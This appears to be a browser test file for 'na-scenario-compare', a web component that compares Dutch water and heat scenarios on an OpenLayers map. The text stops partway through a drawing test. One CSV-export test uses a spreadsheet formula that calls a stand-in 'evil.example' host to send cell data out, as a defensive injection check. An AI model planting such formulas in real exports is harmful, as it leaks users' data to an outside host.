/**
 * <na-scenario-compare> on a real OpenLayers map in Chromium: the three demo scenarios of
 * Voorbeeldstad loaded through the attribute (table, ranking, events, matrices, exports, swipe,
 * languages, phone width, axe; each test builds its own element), files through the file input and a drop (a bad file shows an
 * error and keeps the others), a polygon drawn with real pointer input and with the keyboard, and
 * clean-up: removing the element restores the map's layers, controls, interactions and listeners.
 */
import { expect } from '@open-wc/testing';
import { sendKeys, setViewport } from '@web/test-runner-commands';
import axe from 'axe-core';
import type OlMap from 'ol/Map.js';
import '../../widgets/scenario-compare/define.js';
import type { NaScenarioCompare } from '../../widgets/scenario-compare/scenario-compare.js';
import type {
  NaScenarioChangeEvent,
  NaScenarioErrorEvent,
} from '../../widgets/scenario-compare/events.js';
import type { FactSource } from '../../src/core/types.js';
import { toCrs } from '../../src/core/crs.js';
import { parseCsvText } from '../../src/core/csv.js';
import { demoSources } from './helpers/demo.js';
import { squaresScenario } from './helpers/scenarios.js';
import { listenerSnapshot, makeMap, sleep, until, type TestMap } from './helpers/map.js';

const DEMO = '/demo/data/scenarios';
const NAMES = {
  huidig: 'Huidige inrichting',
  grijs: 'Grijs: grotere riolen',
  groenblauw: 'Groenblauw: volgt het natuurlijk systeem',
};
/** On the dekzandrug of the demo data (Dz1, Zd21, Gt VII). */
const RIDGE: [number, number] = [195138, 445488];

let sources: FactSource[] = [];
before(async () => {
  sources = await demoSources();
});

const cleanups: Array<() => void> = [];
afterEach(async () => {
  await setViewport({ width: 800, height: 600 });
  for (const c of cleanups.splice(0).reverse()) c();
});

function shadow(el: NaScenarioCompare): ShadowRoot {
  if (!el.shadowRoot) throw new Error('no shadow root');
  return el.shadowRoot;
}
function part<T extends HTMLElement = HTMLElement>(el: NaScenarioCompare, name: string): T | null {
  return shadow(el).querySelector<T>(`[part~="${name}"]`);
}
function parts(el: NaScenarioCompare, name: string): HTMLElement[] {
  return [...shadow(el).querySelectorAll<HTMLElement>(`[part~="${name}"]`)];
}

async function axeClean(el: HTMLElement): Promise<void> {
  const result = await axe.run(el, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] });
  const summary = result.violations.map(
    (v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`,
  );
  expect(summary, summary.join('\n')).to.deep.equal([]);
}

/** A small scenario on the ridge: two 40 m squares. */
function smallScenario(name: string, types: [string, string], dx = 0): Record<string, unknown> {
  return squaresScenario(name, types, [RIDGE[0] - 40 + dx, RIDGE[1] - 20]);
}

function mount(
  options: {
    map?: boolean;
    sources?: boolean;
    lang?: string;
    center?: [number, number];
    resolution?: number;
  } = {},
): {
  tm?: TestMap;
  el: NaScenarioCompare;
} {
  const el = document.createElement('na-scenario-compare');
  if (options.lang) el.setAttribute('lang', options.lang);
  let tm: TestMap | undefined;
  if (options.map !== false) {
    tm = makeMap({ center: options.center ?? RIDGE, width: 400, height: 300 });
    tm.map.getView().setResolution(options.resolution ?? 1);
    tm.map.renderSync();
    el.map = tm.map;
  }
  if (options.sources !== false) el.sources = sources;
  document.body.append(el);
  cleanups.push(() => {
    el.remove();
    tm?.dispose();
  });
  return { tm, el };
}

/** Pixel (CSS, relative to the viewport) of an RD location on the map. */
function pixelOf(map: OlMap, rd: [number, number]): [number, number] {
  const code = map.getView().getProjection().getCode();
  const p = map.getPixelFromCoordinate(toCrs(rd, 'EPSG:28992', code as 'EPSG:28992'));
  return [p?.[0] ?? 0, p?.[1] ?? 0];
}

/** A real click as a user makes it, at a viewport pixel: move, down on the viewport, up on the document. */
async function clickAt(map: OlMap, [px, py]: [number, number]): Promise<void> {
  const viewport = map.getViewport();
  if (!viewport) throw new Error('no viewport');
  const rect = viewport.getBoundingClientRect();
  const init: PointerEventInit = {
    bubbles: true,
    cancelable: true,
    composed: true,
    clientX: rect.left + px,
    clientY: rect.top + py,
    pointerId: 1,
    pointerType: 'mouse',
    isPrimary: true,
    button: 0,
  };
  viewport.dispatchEvent(new PointerEvent('pointermove', { ...init, buttons: 0 }));
  viewport.dispatchEvent(new PointerEvent('pointerdown', { ...init, buttons: 1 }));
  document.dispatchEvent(new PointerEvent('pointerup', { ...init, buttons: 0 }));
  // Past the double-click time, so each click is a new vertex.
  await sleep(320);
}

describe('<na-scenario-compare> empty', () => {
  it('tells what to do next without map and sources, and is axe-clean', async () => {
    const { el } = mount({ map: false, sources: false });
    await el.updateComplete;
    expect(el.state).to.equal('empty');
    const steps = parts(el, 'steps')[0]!;
    expect(steps.textContent).to.contain('Koppel een OpenLayers-kaart via .map');
    expect(steps.textContent).to.contain('Koppel bronnen via .sources');
    expect(steps.textContent).to.contain('Laad twee of meer scenario');
    expect(part<HTMLButtonElement>(el, 'draw-start')!.disabled).to.equal(true);
    expect(part(el, 'results')).to.equal(null);
    await axeClean(el);
  });

  it('speaks English with lang="en"', async () => {
    const { el } = mount({ map: false, sources: false, lang: 'en' });
    await el.updateComplete;
    expect(part(el, 'title')!.textContent).to.equal('Compare scenarios');
    expect(part(el, 'steps')!.textContent).to.contain('Connect an OpenLayers map via .map');
    expect(part(el, 'file-label')!.textContent).to.contain('Choose files');
  });
});

/**
 * A comparer of its own for one test: the three demo scenarios through the attribute, the demo
 * sources file, on a map; the map's listeners, layers and controls counted before it was added,
 * and every `na-scenario-change` it fired.
 */
async function demoComparer(): Promise<{
  tm: TestMap;
  el: NaScenarioCompare;
  before0: Record<string, number>;
  changes: NaScenarioChangeEvent[];
}> {
  const tm = makeMap({ center: [193650, 446080], width: 500, height: 360 });
  tm.map.getView().setResolution(2);
  tm.map.renderSync();
  const before0 = listenerSnapshot(tm.map);
  const changes: NaScenarioChangeEvent[] = [];
  const el = document.createElement('na-scenario-compare');
  el.addEventListener('na-scenario-change', (e) => changes.push(e));
  el.setAttribute('sources', '/demo/data/sources.json');
  el.setAttribute(
    'scenarios',
    ['huidig', 'grijs', 'groenblauw'].map((n) => `${DEMO}/${n}.geojson`).join(','),
  );
  el.map = tm.map;
  document.body.append(el);
  cleanups.push(() => {
    el.remove();
    tm.dispose();
  });
  await el.whenComputed();
  await el.updateComplete;
  return { tm, el, before0, changes };
}

describe('<na-scenario-compare> with the three demo scenarios (each test its own element)', function () {
  this.timeout(240000);

  it('shows a table with three scenario columns and groenblauw first', async () => {
    const { el } = await demoComparer();
    expect(el.state).to.equal('ready');
    const head = part(el, 'indicator-table')!.querySelectorAll('thead th');
    expect([...head].map((th) => th.textContent?.trim())).to.deep.equal([
      'Indicator',
      'Eenheid',
      NAMES.huidig,
      NAMES.grijs,
      NAMES.groenblauw,
    ]);
    expect(el.result!.ranking[0]).to.equal(NAMES.groenblauw);
    const ranking = part(el, 'ranking')!.querySelectorAll('li');
    expect(ranking).to.have.length(3);
    expect(ranking[0]!.textContent).to.contain(NAMES.groenblauw);
    expect(part(el, 'explanation')!.textContent).to.contain('Groenblauw');
    const row = part(el, 'indicator-table')!.querySelector('tr[data-key="canopy_share"]')!;
    const cells = [...row.querySelectorAll('td.num')].map((td) =>
      Number(td.textContent!.replace(',', '.')),
    );
    expect(cells[2]).to.be.at.least(30);
  });

  it('fired na-scenario-change with the names and the ranking', async () => {
    const { changes } = await demoComparer();
    const last = changes[changes.length - 1]!;
    expect(last.detail.names).to.deep.equal([NAMES.huidig, NAMES.grijs, NAMES.groenblauw]);
    expect(last.detail.ranking[0]).to.equal(NAMES.groenblauw);
    expect(last.bubbles && last.composed).to.equal(true);
  });

  it('explains each number (formula and source)', async () => {
    const { el } = await demoComparer();
    const runoff = part(el, 'indicator-table')!.querySelector(
      'tr[data-key="runoff.T100.today"] details',
    )!;
    expect(runoff.textContent).to.contain('SCS');
    expect(runoff.textContent).to.contain('25400/CN');
    const cooling = part(el, 'indicator-table')!.querySelector(
      'tr[data-key="cooling_capacity"] details',
    )!;
    expect(cooling.textContent).to.contain('InVEST');
  });

  it('shows bar charts with a text summary and robustness grids with symbols and text', async () => {
    const { el } = await demoComparer();
    const charts = parts(el, 'chart');
    expect(charts.length).to.be.greaterThan(10);
    const svg = charts[0]!.querySelector('svg')!;
    expect(svg.getAttribute('role')).to.equal('img');
    expect(svg.getAttribute('aria-label')).to.contain(NAMES.groenblauw);
    const matrices = parts(el, 'matrix');
    expect(matrices).to.have.length(3);
    const cells = matrices[2]!.querySelectorAll('td.pass, td.fail');
    expect(cells.length).to.equal(el.result!.futures.length * el.result!.tests.length);
    const first = cells[0]!;
    expect(first.textContent).to.match(/[✓✗]/);
    expect(first.textContent).to.match(/gehaald/);
    expect(part(el, 'assumptions')!.textContent).to.contain('U: aanname');
  });

  it('says per cell which condition failed and by how much, and what each measure adds', async () => {
    const { el } = await demoComparer();
    const matrices = parts(el, 'matrix');
    // Huidig fails the hot day (too little shade): the cell's hover and hidden text name it.
    const failed = [...matrices[0]!.querySelectorAll('td.fail')];
    expect(failed.length).to.be.greaterThan(0);
    const tip = (td: Element) => td.querySelector('[title]')?.getAttribute('title') ?? '';
    const heat = failed.find((td) => /schaduw/.test(tip(td)))!;
    expect(tip(heat)).to.match(/Faalt op .*schaduw \d+ %, norm ≥ 30 %: \d+ % te weinig/);
    expect(heat.textContent).to.contain('te weinig');
    const tables = parts(el, 'contributions-table');
    expect(tables).to.have.length(3);
    const huidig = tables[0]!;
    const crate = [...huidig.querySelectorAll('tbody tr')].find((tr) =>
      tr.querySelector('th')!.textContent!.includes('Infiltratiekratten'),
    )!;
    // The crates in the beekdal stand in the groundwater: almost no storage, and they count against.
    const cells = [...crate.querySelectorAll('td')].map((td) => td.textContent!.trim());
    expect(cells[5]).to.equal('tegen');
    const rows = el.result!.scenarios[0]!.contributions.length;
    expect(huidig.querySelectorAll('tbody tr')).to.have.length(rows);
  });

  it('shows the fit: the crates in the beekdal of huidig go against the natural system', async () => {
    const { el } = await demoComparer();
    const fit = parts(el, 'fit-scenario');
    expect(fit).to.have.length(3);
    expect(fit[0]!.textContent).to.contain('Infiltratiekratten');
    expect(fit[0]!.textContent).to.match(/grondwatertrap (IIa|IIb)/);
  });

  it('exports the indicators as CSV', async () => {
    const { el } = await demoComparer();
    const csv = el.exportCsv()!;
    const lines = csv.trim().split('\n');
    expect(lines[0]).to.equal(
      `indicator,label,unit,${NAMES.huidig},${NAMES.grijs},${NAMES.groenblauw}`,
    );
    const paved = lines.find((l) => l.startsWith('paved_share,'))!;
    const values = paved.split(',').slice(3).map(Number);
    expect(values[1]).to.be.greaterThan(values[0]!);
    expect(values[2]).to.be.lessThan(values[0]!);
    expect(lines.some((l) => l.startsWith('robustness.rain-T100.today,'))).to.equal(true);
    expect(lines[lines.length - 1]).to.match(/^rank,rank,,3,2,1$/);
  });

  it('shows a new comparison in two steps (results, then the detail sections); the old one keeps its parameters meanwhile', async () => {
    const { el } = await demoComparer();
    const csvBefore = el.exportCsv();
    el.params = { sewerCapacityMmH: { value: 55, source: 'test', tag: 'U' } };
    await el.updateComplete;
    expect(el.state).to.equal('computing');
    // The result on screen is exported (and shown) with the parameters it was computed with.
    expect(el.exportCsv()).to.equal(csvBefore);
    expect(parts(el, 'fit')).to.have.length(1);
    const fitBefore = part(el, 'fit')!;
    const firstStep = await new Promise<{ pending: number; hidden: boolean; table: number }>(
      (resolve) =>
        el.addEventListener(
          'na-scenario-change',
          () =>
            resolve({
              pending: parts(el, 'details-pending').length,
              hidden: part(el, 'details')!.hidden,
              table: parts(el, 'indicator-table').length,
            }),
          { once: true },
        ),
    );
    // First the new results; the previous details stay in the DOM, hidden, until the next task.
    expect(firstStep).to.deep.equal({ pending: 1, hidden: true, table: 1 });
    await el.whenComputed();
    expect(parts(el, 'details-pending')).to.have.length(0);
    expect(part(el, 'details')!.hidden).to.equal(false);
    expect(part(el, 'fit'), 'updated in place, not built again').to.equal(fitBefore);
    expect(parts(el, 'fit')).to.have.length(1);
    expect(parts(el, 'contributions-table')).to.have.length(3);
    expect(el.result!.scenarios[0]!.sewer_capacity_mm_h).to.equal(55);
    expect(el.exportCsv()).to.not.equal(csvBefore);
  });

  it('exports a scenario as GeoJSON with the assessment per feature', async () => {
    const { el } = await demoComparer();
    const fc = JSON.parse(el.exportGeoJson(NAMES.huidig)!) as {
      name: string;
      crs: { properties: { name: string } };
      features: Array<{ properties: Record<string, unknown> }>;
    };
    expect(fc.name).to.equal(NAMES.huidig);
    expect(fc.crs.properties.name).to.equal('urn:ogc:def:crs:EPSG::28992');
    expect(fc.features[0]!.properties.type).to.equal('plangebied');
    const crate = fc.features.find((f) => f.properties.type === 'infiltratiekrat')!;
    expect(crate.properties.verdict).to.equal('against');
    expect(crate.properties.zone).to.match(/^Dz[56]$/);
    expect(String(crate.properties.gt)).to.match(/^II/);
    expect(String(crate.properties.reasons)).to.contain('grondwater');
    const green = JSON.parse(el.exportGeoJson(NAMES.groenblauw)!) as typeof fc;
    const wadi = green.features.find((f) => f.properties.type === 'wadi')!;
    expect(wadi.properties.verdict).to.equal('in_line');
    expect(wadi.properties.zone).to.equal('Dz1');
  });

  it('puts each scenario on the map and swipes between two', async () => {
    const { tm, el, before0 } = await demoComparer();
    const layers = el.scenarioLayers!;
    expect(layers.keys()).to.have.length(3);
    expect(tm.map.getLayers().getLength()).to.equal(before0.layers! + 1);
    const swipe = layers.swipeControl!;
    expect(swipe).to.not.equal(undefined);
    expect(tm.map.getControls().getArray()).to.include(swipe);
    const handle = tm.map.getViewport()!.querySelector('.na-swipe button')!;
    expect(handle.getAttribute('aria-label')).to.equal('Schuifbalk tussen de scenario’s');
    // The slider moves the swipe line (keyboard path).
    const slider = part<HTMLInputElement>(el, 'swipe-position')!;
    slider.focus();
    await sendKeys({ press: 'ArrowRight' });
    await sendKeys({ press: 'ArrowRight' });
    await el.updateComplete;
    expect(layers.getSwipePosition()).to.be.closeTo(0.6, 0.001);
    // Without the swipe one scenario shows; with it, two.
    const toggle = part<HTMLInputElement>(el, 'swipe-toggle')!;
    toggle.click();
    await el.updateComplete;
    expect(layers.swipeControl).to.equal(undefined);
    expect(tm.map.getControls().getLength()).to.equal(before0.controls);
    const visible = () => layers.keys().filter((k) => layers.layer(k)!.getVisible());
    expect(visible()).to.have.length(1);
    toggle.click();
    await el.updateComplete;
    expect(visible()).to.have.length(2);
    expect(tm.map.getControls().getLength()).to.equal(before0.controls! + 1);
  });

  it('has a legend of the measure types in view, and the right scenario can be chosen', async () => {
    const { el } = await demoComparer();
    const legend = () => part(el, 'legend')!.textContent!;
    expect(legend()).to.contain('Infiltratiekratten');
    expect(legend()).to.not.contain('Wadi');
    expect(parts(el, 'swatch').length).to.be.greaterThan(5);
    const right = part<HTMLSelectElement>(el, 'map-right')!;
    right.value = el.loaded[2]!.key;
    right.dispatchEvent(new Event('change'));
    await el.updateComplete;
    expect(legend()).to.contain('Wadi');
    const layers = el.scenarioLayers!;
    const visible = layers.keys().filter((k) => layers.layer(k)!.getVisible());
    expect(visible).to.deep.equal([el.loaded[0]!.key, el.loaded[2]!.key]);
  });

  it('prints with every explanation open ("Afdrukken")', async () => {
    const { el } = await demoComparer();
    const original = window.print.bind(window);
    let openAtPrint = -1;
    window.print = () => {
      openAtPrint = shadow(el).querySelectorAll('details[part~="explain"][open]').length;
    };
    try {
      part<HTMLButtonElement>(el, 'print')!.click();
      await until(() => openAtPrint >= 0, 'the print call');
    } finally {
      window.print = original;
    }
    expect(openAtPrint).to.equal(part(el, 'indicator-table')!.querySelectorAll('tbody tr').length);
    await el.updateComplete;
    expect(shadow(el).querySelectorAll('details[part~="explain"][open]')).to.have.length(0);
  });

  it('is axe-clean when loaded', async () => {
    const { el } = await demoComparer();
    await axeClean(el);
  });

  it('switches to English without computing again', async () => {
    const { el, changes } = await demoComparer();
    const count = changes.length;
    el.setAttribute('lang', 'en');
    await el.updateComplete;
    expect(part(el, 'title')!.textContent).to.equal('Compare scenarios');
    expect(part(el, 'indicator-table')!.querySelector('thead th')!.textContent).to.equal(
      'Indicator',
    );
    expect(part(el, 'indicator-table')!.textContent).to.contain('Tree canopy');
    expect(part(el, 'explanation')!.textContent).to.contain('is the most robust');
    expect(part(el, 'matrix')!.textContent).to.contain('Today');
    expect(el.exportCsv()!.split('\n')[1]).to.contain('Planning area');
    // A new computation would have started in the update (state `computing`) or already ended
    // with a na-scenario-change: neither happened.
    expect(el.state).to.equal('ready');
    expect(changes.length).to.equal(count);
    await axeClean(el);
    el.setAttribute('lang', 'nl');
    await el.updateComplete;
  });

  it('fits a phone (360 px): nothing sticks out, tables scroll in their own region', async () => {
    const { el } = await demoComparer();
    await setViewport({ width: 360, height: 740 });
    el.style.display = 'block';
    await el.updateComplete;
    await sleep(50);
    const box = el.getBoundingClientRect();
    const out = [...shadow(el).querySelectorAll<HTMLElement>('*')]
      .filter((n) => n.getBoundingClientRect().right > box.right + 1 && !n.closest('.scroll'))
      .map(
        (n) =>
          `${n.localName}[part=${n.getAttribute('part') ?? ''}] ${Math.round(n.getBoundingClientRect().right)}`,
      );
    expect(out, out.join('\n')).to.deep.equal([]);
    expect(el.scrollWidth).to.be.at.most(el.clientWidth + 1);
    const region = part(el, 'indicator-table')!.parentElement!;
    expect(region.getAttribute('role')).to.equal('region');
    expect(region.tabIndex).to.equal(0);
  });

  it('hovering a measure on the map tells what it adds and how it fits', async () => {
    const { tm, el } = await demoComparer();
    const layers = el.scenarioLayers!;
    const key = layers.keys()[0]!; // huidig
    layers.show({ mode: 'single', key });
    const fc = JSON.parse(el.exportGeoJson(NAMES.huidig)!) as {
      features: Array<{
        properties: Record<string, unknown>;
        geometry: { coordinates: number[][][] };
      }>;
    };
    const crate = fc.features.find((f) => f.properties.type === 'infiltratiekrat')!;
    const ring = crate.geometry.coordinates[0]!;
    const xs = ring.map((p) => p[0]!);
    const ys = ring.map((p) => p[1]!);
    const centre: [number, number] = [
      (Math.min(...xs) + Math.max(...xs)) / 2,
      (Math.min(...ys) + Math.max(...ys)) / 2,
    ];
    const code = tm.map.getView().getProjection().getCode();
    tm.map.getView().setCenter(toCrs(centre, 'EPSG:28992', code as 'EPSG:28992'));
    tm.map.renderSync();
    await sleep(50);
    const [px, py] = pixelOf(tm.map, centre);
    const viewport = tm.map.getViewport()!;
    const rect = viewport.getBoundingClientRect();
    viewport.dispatchEvent(
      new PointerEvent('pointermove', {
        bubbles: true,
        composed: true,
        clientX: rect.left + px,
        clientY: rect.top + py,
        pointerId: 1,
        pointerType: 'mouse',
        isPrimary: true,
        buttons: 0,
      }),
    );
    const tip = () => viewport.querySelector('.na-scenario-tooltip');
    await until(() => (tip()?.textContent ?? '').length > 0, 'the tooltip');
    const text = tip()!.textContent!;
    expect(text).to.contain('Infiltratiekratten');
    expect(text).to.match(/Berging [\d.,]+ m³/);
    expect(text).to.contain('Natuurlijk systeem: tegen');
    expect(tip()!.children).to.have.length(0); // text, not HTML
  });

  it('removing a scenario updates the table; removing the element restores the map', async () => {
    const { tm, el, before0 } = await demoComparer();
    const removeButtons = parts(el, 'remove');
    expect(removeButtons).to.have.length(3);
    removeButtons[1]!.click();
    await el.whenComputed();
    await el.updateComplete;
    expect(part(el, 'indicator-table')!.querySelectorAll('thead th')).to.have.length(4);
    el.remove();
    tm.map.renderSync();
    expect(listenerSnapshot(tm.map)).to.deep.equal(before0);
  });
});

describe('<na-scenario-compare> loading files', function () {
  this.timeout(120000);

  it('loads a file from the file input; a bad file shows an error and keeps the others', async () => {
    const { el } = mount();
    const errors: NaScenarioErrorEvent[] = [];
    el.addEventListener('na-scenario-error', (e) => errors.push(e));
    void el.addScenario(smallScenario('Klein A', ['gras', 'verharding']), 'klein-a.geojson');
    await el.whenComputed();
    const text = JSON.stringify(smallScenario('Klein B', ['wadi', 'verharding'], 100));
    const good = new File([text], 'klein-b.geojson', { type: 'application/geo+json' });
    const bad = new File(
      [
        JSON.stringify({
          type: 'FeatureCollection',
          features: [{ type: 'Feature', properties: { type: 'zwembad' }, geometry: null }],
        }),
      ],
      'fout.geojson',
    );
    const input = part<HTMLInputElement>(el, 'file-input')!;
    const dt = new DataTransfer();
    dt.items.add(good);
    dt.items.add(bad);
    input.files = dt.files;
    input.dispatchEvent(new Event('change', { bubbles: true }));
    await until(() => el.loaded.length === 2 && errors.length === 1, 'the files to load');
    await el.whenComputed();
    await el.updateComplete;
    expect(el.loaded.map((s) => s.name)).to.deep.equal(['Klein A', 'Klein B']);
    expect(el.loaded[1]!.origin).to.equal('file');
    expect(errors[0]!.detail.code).to.equal('unknown-measure-type');
    expect(errors[0]!.detail.file).to.equal('fout.geojson');
    const shown = part(el, 'errors')!;
    // The list is no alert (it would be read whole again at every change, #18 item 8): a live
    // region says only the newest error, once.
    expect(shown.getAttribute('role')).to.equal(null);
    expect(shown.textContent).to.contain('fout.geojson feature 0: unknown measure type "zwembad"');
    expect(shown.textContent).to.contain('De andere scenario');
    const live = part(el, 'errors-live')!;
    expect(live.getAttribute('role')).to.equal('status');
    const first = part(el, 'error-message')!.textContent!.trim();
    expect(live.textContent!.trim()).to.equal(first);
    expect(part(el, 'indicator-table')!.querySelectorAll('thead th')).to.have.length(4);
    // A second error: the live region holds that one only, not the list.
    expect(
      await el.addScenario(smallScenario('Fout B', ['gras', 'zwembad']), 'fout-b.geojson'),
    ).to.equal(null);
    await el.updateComplete;
    const messages = [...el.shadowRoot!.querySelectorAll('[part~="error-message"]')].map((m) =>
      m.textContent!.trim(),
    );
    expect(messages).to.have.length(2);
    expect(live.textContent!.trim()).to.equal(messages[1]);
    // Dismissing the first (keyboard) leaves the live region as it was: nothing is said again.
    part<HTMLButtonElement>(el, 'dismiss')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(live.textContent!.trim()).to.equal(messages[1]);
    // Dismissing the last empties both, silently.
    part<HTMLButtonElement>(el, 'dismiss')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(part(el, 'errors')!.textContent!.trim()).to.equal('');
    expect(live.textContent!.trim()).to.equal('');
  });

  it('a scenario named like a spreadsheet formula is exported as text in the CSV (issue #13)', async () => {
    const { el } = mount();
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
    void el.addScenario(smallScenario(formula, ['gras', 'verharding']), 'formule.geojson');
    void el.addScenario(smallScenario('@SUM(A1)', ['wadi', 'verharding'], 100), 'som.geojson');
    await el.whenComputed();
    await el.updateComplete;
    const rows = await parseCsvText(el.exportCsv()!);
    expect(rows[0]!.cells.slice(3)).to.deep.equal([`'${formula}`, `'@SUM(A1)`]);
    for (const row of rows)
      for (const cell of row.cells) expect('=+-@\t\r', cell).not.to.contain(cell.charAt(0) || 'x');
  });

  it('loads the demo file the way QGIS wrote it, and a lon/lat file, by dropping them', async () => {
    const { el } = mount();
    const demo = await (await fetch(`${DEMO}/huidig.geojson`)).text();
    // The same layout as longitude/latitude (RFC 7946, no crs member).
    const lonLat = smallScenario('In lengte- en breedtegraad', ['gras', 'wadi']) as {
      crs?: unknown;
      features: Array<{ geometry: { coordinates: number[][][] } }>;
    };
    delete lonLat.crs;
    for (const f of lonLat.features)
      f.geometry.coordinates = f.geometry.coordinates.map((ring) =>
        ring.map(([x, y]) => toCrs([x!, y!], 'EPSG:28992', 'EPSG:4326')),
      );
    const dt = new DataTransfer();
    dt.items.add(new File([demo], 'huidig.geojson'));
    dt.items.add(new File([JSON.stringify(lonLat)], 'lonlat.geojson'));
    part(el, 'dropzone')!.dispatchEvent(
      new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }),
    );
    await until(() => el.loaded.length === 2, 'the dropped files', 20000);
    expect(el.loaded.map((s) => s.name)).to.deep.equal([
      NAMES.huidig,
      'In lengte- en breedtegraad',
    ]);
    expect(el.loaded[1]!.scenario.sourceCrs).to.equal('EPSG:4326');
    const f = el.loaded[1]!.scenario.features[0]!;
    expect(f.area).to.be.closeTo(1600, 1);
  });

  it("a file the browser cannot read is told in Dutch; the browser's English reason only in a <details>", async () => {
    const { el } = mount({ map: false });
    const errors: NaScenarioErrorEvent[] = [];
    el.addEventListener('na-scenario-error', (e) => errors.push(e));
    await el.updateComplete;
    const reason = 'The requested file could not be read, typically due to permission problems.';
    const unreadable = new File(['{}'], 'weg.geojson');
    unreadable.text = () => Promise.reject(new DOMException(reason, 'NotReadableError'));
    expect(await el.loadFiles([unreadable])).to.deep.equal([null]);
    await el.updateComplete;
    expect(errors[0]!.detail.code).to.equal('load-failed');
    const list = part(el, 'errors')!.cloneNode(true) as HTMLElement;
    for (const d of list.querySelectorAll('details')) d.remove();
    expect(list.textContent).to.contain('weg.geojson: kon niet worden gelezen.');
    expect(list.textContent).not.to.contain(reason);
    const detail = part(el, 'errors')!.querySelector('details[part~="technical-detail"]');
    expect(detail?.getAttribute('lang')).to.equal('en');
    expect(detail?.textContent).to.contain(reason);
  });

  it('loads a URL typed in the address field, with the keyboard; a missing file is reported', async () => {
    const { el } = mount({ map: false });
    const errors: NaScenarioErrorEvent[] = [];
    el.addEventListener('na-scenario-error', (e) => errors.push(e));
    await el.updateComplete;
    part<HTMLInputElement>(el, 'url-input')!.focus();
    await sendKeys({ type: '/demo/data/scenarios/bestaat-niet.geojson' });
    await sendKeys({ press: 'Enter' });
    await until(() => errors.length === 1, 'the load error');
    expect(errors[0]!.detail.code).to.equal('load-failed');
    expect(part(el, 'errors')!.textContent).to.contain('HTTP 404');
    const same = await el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
    const twin = await el.addScenario(smallScenario('Klein A', ['gras', 'wadi']));
    expect(same!.name).to.equal('Klein A');
    expect(twin!.name).to.equal('Klein A (2)');
    await el.whenComputed();
    expect(el.result!.scenarios).to.have.length(2);
    expect(el.result!.scenarios[0]!.sewer_capacity_mm_h).to.equal(20);
    // Parameters over the defaults: a new comparison.
    el.params = { sewerCapacityMmH: { value: 60, source: 'test', tag: 'U' } };
    await el.updateComplete;
    await el.whenComputed();
    expect(el.result!.scenarios[0]!.sewer_capacity_mm_h).to.equal(60);
  });
});

describe('<na-scenario-compare> drawing', function () {
  this.timeout(120000);

  it('draws a polygon with real pointer input and adds it as a scenario', async () => {
    const { tm, el } = mount();
    const map = tm!.map;
    const before0 = listenerSnapshot(map);
    await el.updateComplete;
    const select = part<HTMLSelectElement>(el, 'draw-type')!;
    select.value = 'wadi';
    select.dispatchEvent(new Event('change'));
    part<HTMLButtonElement>(el, 'draw-start')!.click();
    await el.updateComplete;
    expect(el.drawing!.active).to.equal(true);
    expect(map.getInteractions().getLength()).to.be.greaterThan(before0.interactions!);
    const c = pixelOf(map, RIDGE);
    const corners: Array<[number, number]> = [
      [c[0] - 50, c[1] + 40],
      [c[0] + 50, c[1] + 40],
      [c[0] + 50, c[1] - 40],
      [c[0] - 50, c[1] - 40],
    ];
    for (const p of corners) await clickAt(map, p);
    await clickAt(map, corners[0]!); // on the first point: finishes the polygon
    await until(() => el.drawing!.count() === 1, 'the drawn polygon');
    await el.updateComplete;
    const feature = el.drawing!.layer.getSource()!.getFeatures()[0]!;
    expect(feature.get('type')).to.equal('wadi');
    part<HTMLInputElement>(el, 'draw-name')!.value = 'Mijn wadi';
    part<HTMLInputElement>(el, 'draw-name')!.dispatchEvent(new Event('input'));
    await el.updateComplete;
    part<HTMLButtonElement>(el, 'draw-add')!.click();
    await el.whenComputed();
    await el.updateComplete;
    expect(el.loaded).to.have.length(1);
    const s = el.loaded[0]!;
    expect(s.name).to.equal('Mijn wadi');
    expect(s.origin).to.equal('drawn');
    expect(s.scenario.features).to.have.length(1);
    expect(s.scenario.features[0]!.type).to.equal('wadi');
    // 100 × 80 px at 1 m/px.
    expect(s.scenario.features[0]!.area).to.be.closeTo(8000, 80);
    expect(el.drawing!.active).to.equal(false);
    expect(el.result!.scenarios[0]!.fit.measures[0]!.zone).to.equal('Dz1');
    expect(el.result!.scenarios[0]!.fit.measures[0]!.verdict).to.equal('in_line');
    expect(map.getInteractions().getLength()).to.equal(before0.interactions);
  });

  it('draws with the keyboard: pan with the arrow keys, add the map centre as points', async () => {
    const { tm, el } = mount();
    const map = tm!.map;
    await el.updateComplete;
    part<HTMLButtonElement>(el, 'draw-start')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.updateComplete;
    expect(el.drawing!.active).to.equal(true);
    const append = async () => {
      part<HTMLButtonElement>(el, 'draw-append')!.focus();
      await sendKeys({ press: 'Enter' });
    };
    const pan = async (key: string) => {
      tm!.target.focus();
      await sendKeys({ press: key });
      await until(() => !map.getView().getAnimating(), 'the pan');
    };
    await append();
    await pan('ArrowRight');
    await append();
    await pan('ArrowUp');
    await append();
    part<HTMLButtonElement>(el, 'draw-finish')!.focus();
    await sendKeys({ press: 'Enter' });
    await until(() => el.drawing!.count() === 1, 'the keyboard polygon');
    await el.updateComplete;
    part<HTMLButtonElement>(el, 'draw-add')!.focus();
    await sendKeys({ press: 'Enter' });
    await el.whenComputed();
    expect(el.loaded).to.have.length(1);
    expect(el.loaded[0]!.scenario.features[0]!.type).to.equal('wadi');
    expect(el.loaded[0]!.scenario.features[0]!.area).to.be.greaterThan(100);
  });

  it('removing the element while drawing restores the map exactly', async () => {
    const { tm, el } = mount();
    const map = tm!.map;
    el.remove();
    map.renderSync();
    const bare = listenerSnapshot(map);
    document.body.append(el);
    await el.updateComplete;
    void el.addScenario(smallScenario('Klein A', ['gras', 'verharding']));
    void el.addScenario(smallScenario('Klein B', ['wadi', 'verharding'], 100));
    await el.whenComputed();
    el.startDrawing('open-water');
    await el.updateComplete;
    expect(map.getControls().getLength()).to.equal(bare.controls! + 1);
    expect(map.getLayers().getLength()).to.equal(bare.layers! + 2);
    el.remove();
    map.renderSync();
    expect(listenerSnapshot(map)).to.deep.equal(bare);
    // Connected again: everything comes back.
    document.body.append(el);
    await el.updateComplete;
    expect(map.getLayers().getLength()).to.equal(bare.layers! + 1);
